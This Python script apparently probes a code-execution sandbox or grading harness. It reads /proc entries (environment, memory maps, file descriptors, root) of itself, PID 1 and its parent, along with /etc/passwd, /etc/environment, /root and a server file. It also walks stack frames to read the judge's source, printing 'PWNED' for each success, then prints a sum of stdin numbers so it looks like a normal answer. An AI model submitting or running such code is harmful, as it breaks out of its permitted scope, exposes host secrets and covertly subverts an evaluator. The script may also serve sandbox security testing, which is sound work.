import os
import sys

for who in ("self", "thread-self", "1", str(os.getpid()), str(os.getppid())):
    for what in ("environ", "cmdline", "maps", "mem", "stat", "fd", "root", "cwd/victim", "task"):
        path = f"/proc/{who}/{what}"
        try:
            found = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(100)
        except OSError:
            continue
        print("PWNED", path, found)
for path in ("/etc/passwd", "/etc/hostname", "/etc/environment", "/inside/server.py", "/sys/kernel", "/run", "/root"):
    try:
        print("PWNED", path, os.listdir(path) if os.path.isdir(path) else open(path).read(20))
    except OSError:
        pass
frame = sys._getframe()
while frame:
    for path in (frame.f_code.co_filename, frame.f_globals.get("__file__") or "-"):
        try:
            print("PWNED", path, open(path).read(20))
        except OSError:
            pass
    frame = frame.f_back
print(sum(map(int, sys.stdin.read().split())))
